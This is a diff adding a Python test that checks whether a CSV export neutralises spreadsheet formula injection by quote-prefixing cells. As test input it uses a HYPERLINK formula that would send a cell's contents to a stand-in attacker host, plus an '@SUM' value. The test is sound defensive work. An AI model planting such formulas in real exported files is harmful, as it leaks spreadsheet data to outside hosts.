@@ -220,3 +220,18 @@ def test_unchanged_documents_keep_their_text_even_when_empty(tmp_path: Path) -> 
     run.documents.append(empty)
     write_run(tmp_path, run)
     assert (tmp_path / "text" / "empty-3333333333.txt").read_bytes() == b""
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
+    run = sample_run()
+    claim = run.claims[0]
+    claim.finding = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    claim.population = "@SUM(1+1)"
+    claim.flags[0].expected = -2.5
+    write_run(tmp_path, run)
+    _, rows = _csv(tmp_path / "claims.csv")
+    assert rows[0]["finding"] == "'" + claim.finding
+    assert rows[0]["population"] == "'@SUM(1+1)"
+    _, flags = _csv(tmp_path / "flags.csv")
+    assert flags[0]["expected"] == "-2.5"
+    assert _jsonl(tmp_path / "claims.jsonl")[0]["finding"] == claim.finding
